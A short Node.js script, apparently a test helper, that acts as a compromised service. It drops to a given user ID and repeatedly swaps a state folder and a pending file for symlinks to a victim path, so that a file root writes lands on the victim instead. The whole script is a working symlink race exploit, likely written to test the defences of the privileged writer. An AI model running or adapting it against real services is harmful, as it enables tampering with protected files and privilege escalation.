// A compromised service: until its input ends, it replaces the files that root is about to write by links to a victim, as fast as it can.
// Usage: node link-racer.mjs UID FOLDER NAME VICTIM-FILE VICTIM-FOLDER
import { mkdirSync, renameSync, rmSync, symlinkSync, writeFileSync, writeSync } from 'node:fs';
import { join } from 'node:path';

const [uid, folder, name, victimFile, victimFolder] = process.argv.slice(2);
process.setgroups([Number(uid)]);
process.setgid(Number(uid));
process.setuid(Number(uid));
let isOver = false;
process.stdin.on('end', () => {
  isOver = true;
});
process.stdin.resume();
const [inside, moved] = [join(folder, 'state'), join(folder, 'aside')];
const attempt = (work) => {
  try {
    work();
  } catch {
    // Lost this race; the next one follows immediately.
  }
};
writeSync(1, 'racing\n');
while (!isOver) {
  for (let i = 0; i < 50; i += 1) {
    attempt(() => rmSync(join(inside, `${name}.new`), { force: true }));
    attempt(() => symlinkSync(victimFile, join(inside, `${name}.new`)));
    attempt(() => renameSync(inside, moved));
    attempt(() => symlinkSync(victimFolder, inside));
    attempt(() => rmSync(inside));
    attempt(() => renameSync(moved, inside));
    attempt(() => mkdirSync(inside));
    attempt(() => writeFileSync(join(inside, name), 'mine'));
  }
  await new Promise((resolve) => setImmediate(resolve));
}
